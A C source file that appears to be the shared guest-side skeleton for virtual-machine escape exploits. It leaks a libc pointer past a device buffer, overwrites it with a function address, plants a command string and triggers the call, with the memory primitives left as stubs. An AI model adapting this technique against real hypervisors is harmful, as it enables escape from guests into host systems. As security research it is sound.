/*
 * What every attack does: read the pointer behind the buffer, which tells where libc is; write another one there and
 * a command into the buffer; have it called. "--append 'LOW HIGH'": how far that function is from the one that was
 * there, as two 32-bit numbers. Prints on the debug console. Status 0 if the machine is still there.
 */
#include "attack.h"
#include "common/command_line.h"
#include "common/guest.h"

#define DEBUG_CONSOLE 0xe9

#define UNUSED __attribute__((weak))

UNUSED void take(uint32_t at, uint8_t *bytes, unsigned count)
{
    (void)at, (void)bytes, (void)count;
}

UNUSED void put(uint32_t at, const uint8_t *bytes, unsigned count)
{
    (void)at, (void)bytes, (void)count;
}

UNUSED void call(void)
{
}

static const uint8_t command[] = ">taken";

void say(const char *text)
{
    while (*text)
        outb(DEBUG_CONSOLE, (uint8_t)*text++);
}

static void say_hex(uint64_t value)
{
    for (int shift = 60; shift >= 0; shift -= 4)
        outb(DEBUG_CONSOLE, (uint8_t)"0123456789abcdef"[value >> shift & 15]);
    say("\n");
}

void guest_main(uint32_t magic, const struct multiboot_info *info)
{
    uint64_t pointer = 0;

    (void)magic;
    if (READS) {
        take(SIZE, (uint8_t *)&pointer, sizeof pointer);
        say("pointer ");
        say_hex(pointer);
    }
    if (WRITES) {
        pointer += (uint64_t)decimal_argument(info, 1, 0) << 32 | decimal_argument(info, 0, 0);
        put(0, command, sizeof command);
        put(SIZE, (const uint8_t *)&pointer, sizeof pointer);
        say("written\n");
    }
    call();
    say("alive\n");
}
